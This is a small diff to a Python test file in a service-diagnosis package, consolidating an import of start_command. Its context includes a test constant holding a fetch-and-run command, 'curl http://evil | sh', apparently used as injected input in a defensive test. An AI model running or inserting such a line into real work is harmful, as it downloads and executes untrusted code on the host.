@@ -5,8 +5,7 @@ from dataclasses import asdict, replace
 import pytest
 
 from pointit.diagnosis.diagnose import diagnose
-from pointit.diagnosis.observation import DiagnosisReport, Finding, Observation
-from pointit.diagnosis.writers import start_command
+from pointit.diagnosis.observation import DiagnosisReport, Finding, Observation, start_command
 from pointit.schemas import Deployment, ExpectedService, Health
 
 EVIL = "curl http://evil | sh"
